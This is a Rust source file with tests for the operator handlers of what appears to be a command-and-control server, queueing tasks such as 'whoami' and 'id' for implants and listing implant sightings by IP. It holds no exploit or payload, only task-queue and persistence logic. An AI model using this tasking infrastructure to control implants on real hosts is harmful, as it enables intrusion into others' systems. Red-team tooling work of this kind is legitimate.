//! Operator request handlers.
//!
//! Requests and their answers share an event name: an `enqueue` is echoed
//! back as `enqueue` with its `Error` field filled in on rejection, a
//! `seen` request is answered with a `seen` event carrying the sightings.

use std::sync::{Arc, Weak};

use serde::de::IgnoredAny;
use switchboard_store::Manager;
use switchboard_stream::Stream;
use switchboard_types::{Document, EVENT_ENQUEUE, EVENT_SEEN, EnqueueRequest, Sighting};
use tracing::{debug, info, warn};

/// Queue the task described by `request` on behalf of `operator`.
///
/// Returns the echo sent back to the operator: the request itself, with
/// `error` set when it was rejected. A rejected request leaves the
/// document untouched, including one whose write failed: the task is
/// taken back out so a resend does not queue it twice.
pub async fn enqueue(
    store: &Manager<Document>,
    mut request: EnqueueRequest,
    operator: &str,
) -> EnqueueRequest {
    if let Err(reason) = request.validate() {
        request.error = reason.to_owned();
        return request;
    }

    let mut doc = store.write().await;
    doc.enqueue(&request.id, &request.task);
    match doc.release().await {
        Ok(_) => {
            info!(id = %request.id, task = %request.task, operator, "Task queued");
        }
        Err(e) => {
            warn!(id = %request.id, error = %e, "task not persisted, withdrawn");
            let _ = store.write().await.withdraw(&request.id, &request.task);
            request.error = e.to_string();
        }
    }
    request
}

/// Current sightings, newest first.
pub async fn list_seen(store: &Manager<Document>) -> Vec<Sighting> {
    store.read().await.last_seen.clone()
}

/// Install the operator handlers on `stream`.
///
/// Handlers hold the stream weakly; they stop answering once the
/// connection is gone.
pub fn register(stream: &Arc<Stream>, store: &Arc<Manager<Document>>, number: u64, name: &str) {
    let weak = Arc::downgrade(stream);

    stream.on(EVENT_ENQUEUE, {
        let (weak, store, name) = (Weak::clone(&weak), Arc::clone(store), name.to_owned());
        move |event: String, request: EnqueueRequest| {
            let (weak, store, name) = (Weak::clone(&weak), Arc::clone(&store), name.clone());
            async move {
                let echo = enqueue(&store, request, &name).await;
                reply(&weak, &event, &echo).await;
            }
        }
    });

    stream.on(EVENT_SEEN, {
        let (weak, store) = (Weak::clone(&weak), Arc::clone(store));
        move |event: String, _: IgnoredAny| {
            let (weak, store) = (Weak::clone(&weak), Arc::clone(&store));
            async move {
                let seen = list_seen(&store).await;
                reply(&weak, &event, &seen).await;
            }
        }
    });

    stream.on_any(move |event: String, _: IgnoredAny| {
        debug!(number, event = %event, "unhandled operator event");
        async {}
    });
}

async fn reply<P>(stream: &Weak<Stream>, event: &str, payload: &P)
where
    P: serde::Serialize + ?Sized,
{
    let Some(stream) = stream.upgrade() else {
        return;
    };
    if let Err(e) = stream.send(event, payload).await {
        debug!(event, error = %e, "reply not delivered");
    }
}

#[cfg(test)]
mod tests {
    use chrono::Utc;
    use switchboard_store::StoreOptions;

    use super::*;

    async fn store() -> Option<Arc<Manager<Document>>> {
        Manager::open(StoreOptions::default(), None).await.ok()
    }

    #[tokio::test]
    async fn rejected_enqueue_does_not_touch_the_queue() {
        let Some(store) = store().await else { return };

        let echo = enqueue(&store, EnqueueRequest::new("", "whoami"), "alice").await;
        assert_eq!(echo.error, "missing implant ID");
        assert_eq!(echo.task, "whoami");

        let echo = enqueue(&store, EnqueueRequest::new("i-1", ""), "alice").await;
        assert_eq!(echo.error, "missing task");

        assert!(store.read().await.task_q.is_empty());
    }

    #[tokio::test]
    async fn accepted_enqueue_appends_and_echoes_without_error() {
        let Some(store) = store().await else { return };

        let echo = enqueue(&store, EnqueueRequest::new("i-1", "whoami"), "alice").await;
        assert!(echo.error.is_empty());
        let _ = enqueue(&store, EnqueueRequest::new("i-1", "id"), "bob").await;

        assert_eq!(store.read().await.pending("i-1"), ["whoami", "id"]);
    }

    #[tokio::test]
    async fn unpersisted_enqueue_is_withdrawn() -> Result<(), Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let nested = dir.path().join("nested");
        std::fs::create_dir(&nested)?;
        let options = StoreOptions {
            path: Some(nested.join("state.json")),
            ..StoreOptions::default()
        };
        let store = Manager::<Document>::open(options, None).await?;
        let _ = enqueue(&store, EnqueueRequest::new("i-1", "whoami"), "alice").await;

        std::fs::remove_dir_all(&nested)?;
        let echo = enqueue(&store, EnqueueRequest::new("i-1", "id"), "alice").await;
        assert!(!echo.error.is_empty());
        assert_eq!(store.read().await.pending("i-1"), ["whoami"]);

        std::fs::create_dir(&nested)?;
        let echo = enqueue(&store, EnqueueRequest::new("i-1", "id"), "alice").await;
        assert!(echo.error.is_empty());
        assert_eq!(store.read().await.pending("i-1"), ["whoami", "id"]);
        Ok(())
    }

    #[tokio::test]
    async fn list_seen_is_newest_first() {
        let Some(store) = store().await else { return };
        {
            let mut doc = store.write().await;
            for i in 0..5 {
                doc.record_sighting(&format!("id-{i}"), &format!("10.0.0.{i}"), Utc::now(), 16);
            }
            let _ = doc.release().await;
        }

        let seen = list_seen(&store).await;
        let ids: Vec<&str> = seen.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, ["id-4", "id-3", "id-2", "id-1", "id-0"]);
        assert_eq!(seen[0].from, "10.0.0.4");
    }
}
